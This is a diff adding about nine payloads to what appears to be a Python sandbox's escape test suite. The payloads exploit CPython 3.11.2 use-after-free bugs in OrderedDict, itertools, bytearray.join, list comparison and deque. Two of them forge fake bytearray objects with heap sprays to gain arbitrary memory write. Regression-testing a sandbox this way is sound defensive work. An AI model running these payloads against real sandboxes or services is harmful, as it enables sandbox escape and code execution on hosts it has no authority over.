@@ -1744,6 +1744,188 @@ PAYLOADS = [
             r.make(10)
             return type(st["_renderer"]).__module__
         """, off={OK}),
+    # rev10: CPython 3.11.2 memory bugs reached by re-entering C code from the
+    # code's own special methods (fixed upstream after 3.11.2, or still open).
+    # A vulnerable build crashes (SIGSEGV) or, for the fake-bytearray payloads,
+    # writes to address 8 once the exploit works (so it crashes too).
+    # the sandbox's collections.OrderedDict is a dict subclass: a key's __eq__
+    # that empties it ends in a KeyError, not in freed memory
+    Payload("ordereddict-delitem-eq-clears", """
+        from collections import OrderedDict
+        def main():
+            class Original:
+                def __hash__(self):
+                    return 1
+            class Trigger:
+                def __hash__(self):
+                    return 1
+                def __eq__(self, other):
+                    od.clear()
+                    return True
+            od = OrderedDict()
+            od[Original()] = None
+            del od[Trigger()]
+            return "held"
+        """, on={EXCEPTION, OK}, off={CRASH, OK}),
+    Payload("ordereddict-pop-eq-clears", """
+        import typing
+        def main():
+            class Original:
+                def __hash__(self):
+                    return 1
+            class Trigger:
+                def __hash__(self):
+                    return 1
+                def __eq__(self, other):
+                    od.clear()
+                    return True
+            od = typing.OrderedDict()
+            od[Original()] = None
+            od.pop(Trigger(), 5)
+            return "held"
+        """, on={GUARD}, off={CRASH, OK}),
+    Payload("ordereddict-move-to-end-eq-clears", """
+        import collections
+        def main():
+            class Original:
+                def __hash__(self):
+                    return 1
+            class Trigger:
+                def __hash__(self):
+                    return 1
+                def __eq__(self, other):
+                    od.clear()
+                    return True
+            od = collections.OrderedDict()
+            od[Original()] = None
+            od.move_to_end(Trigger())
+            return "held"
+        """, on={EXCEPTION, OK}, off={CRASH, OK}),
+    Payload("itertools-pairwise-reentrant-generator", """
+        from itertools import pairwise
+        def main():
+            box = []
+            def g():
+                yield next(box[0])
+            for _ in range(10000):
+                try:
+                    box.clear()
+                    box.append(pairwise(g()))
+                    next(box[0])
+                except Exception:
+                    pass
+            return "held"
+        """, on={OK}, off={CRASH, OK}),
+    Payload("itertools-count-radd-reenters-fake-bytearray", """
+        from itertools import count
+        def main():
+            armed = [True]
+            box = []
+            class Step(float):
+                def __radd__(self, other):
+                    if armed[0]:
+                        armed[0] = False
+                        next(box[0])
+                    return other + 1
+            p = lambda v: v.to_bytes(8, "little")
+            fake = p(1 << 40) + p(id(bytearray)) + p(1 << 62) + p((1 << 62) + 1) + p(0) + p(0) + p(0)
+            pad = fake + b"\\0" * (165 - len(fake))
+            box.append(count(1 << 1000, Step(1.0)))
+            val = next(box[0])
+            spray = []
+            for i in range(20000):
+                spray.append(bytearray(pad))
+                if type(val) is bytearray:
+                    val[8] = 1          # a write to address 8: all memory is readable and writable
+            return "held"
+        """, on={OK}, off={CRASH, OK}),
+    Payload("bytearray-join-separator-freed-by-next", """
+        def main():
+            sep = bytearray(b"S" * 4000)
+            class It:
+                def __init__(self):
+                    self.i = 0
+                def __iter__(self):
+                    return self
+                def __next__(self):
+                    self.i += 1
+                    if self.i == 1:
+                        return b"["
+                    if self.i == 2:
+                        sep.clear()
+                        return b"]"
+                    raise StopIteration
+            r = sep.join(It())
+            if r != b"[" + b"S" * 4000 + b"]":
+                raise ValueError("freed separator read: " + r[:64].hex())
+            return "held"
+        """, on={OK}, off={EXCEPTION, CRASH, OK}),
+    Payload("list-ordering-notimplemented-fake-bytearray", """
+        def main():
+            keep = []
+            l2 = []
+            class Evil:
+                def __lt__(self, o):
+                    l2.clear()
+                    return NotImplemented
+            class V(bytearray):
+                def __gt__(self, o):
+                    keep.append(self)
+                    return False
+            p = lambda v: v.to_bytes(8, "little")
+            fake = p(1 << 40) + p(id(bytearray)) + p(1 << 62) + p((1 << 62) + 1) + p(0) + p(0) + p(0)
+            pads = [fake + b"\\0" * k for k in range(0, 80, 8)]
+            spray = []
+            l2.append(V(b"victim"))
+            [Evil()] < l2
+            addr = id(keep[0])
+            for pad in pads:
+                for k in range(8):
+                    b = bytes(bytearray(pad))
+                    spray.append(b)
+                    if id(b) + 32 == addr:
+                        keep[0][8] = 1      # a write to address 8
+            return "held"
+        """, on={OK}, off={CRASH, OK}),
+    Payload("list-ordering-notimplemented-crash", """
+        def main():
+            l2 = []
+            class Evil:
+                def __lt__(self, o):
+                    l2.clear()
+                    return NotImplemented
+            class V:
+                def __gt__(self, o):
+                    return self.missing_attribute
+            for i in range(200):
+                l2.append(V())
+                try:
+                    [Evil()] < l2
+                except AttributeError:
+                    pass
+            return "held"
+        """, on={OK}, off={CRASH, OK}),
+    Payload("deque-index-eq-clears-notimplemented", """
+        from collections import deque
+        def main():
+            keep = []
+            d = deque()
+            class A(bytearray):
+                def __eq__(self, o):
+                    d.clear()
+                    return NotImplemented
+            class Catch:
+                def __eq__(self, o):
+                    keep.append(o)
+                    return False
+            d.append(A(b"victim"))
+            try:
+                d.index(Catch())
+            except RuntimeError:
+                pass
+            spray = [bytes(bytearray(b"x" * n)) for n in range(48, 64) for k in range(8)]
+            return [len(keep), bytes(keep[0])[:6].hex()]
+        """, on={OK}, off={CRASH, OK, EXCEPTION}),
     Payload("format-method-in-fullwidth", """
         def main():
             f = "{0.__cl" + "ass__.__ba" + "se__}"
